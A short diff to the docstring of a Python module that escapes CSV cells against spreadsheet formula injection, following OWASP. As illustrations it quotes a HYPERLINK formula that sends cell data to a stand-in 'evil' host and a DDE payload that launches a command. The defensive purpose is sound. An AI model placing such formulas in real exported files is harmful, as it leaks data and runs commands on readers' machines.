@@ -1,8 +1,8 @@
 """CSV cells that a spreadsheet shows as text and never runs as a formula.
 
-Client staff open result files in Excel, LibreOffice or Google Sheets. A cell
-that starts with `=`, `+`, `-` or `@` is read as a formula (a tab or a carriage
-return before one too), so a reference such as `=HYPERLINK("http://evil/?"&A1)`
+Client staff open result files and notification exports in Excel, LibreOffice or
+Google Sheets. A cell that starts with `=`, `+`, `-` or `@` is read as a formula (a tab
+or a carriage return before one too), so a reference such as `=HYPERLINK("http://evil/?"&A1)`
 or `+cmd|' /C calc'!A0` would run on the reader's machine. As OWASP recommends
 (CSV Injection), such a cell gets a single quote `'` in front, which spreadsheets
 show as text. A value that starts with `'` gets one too, so that the rule is
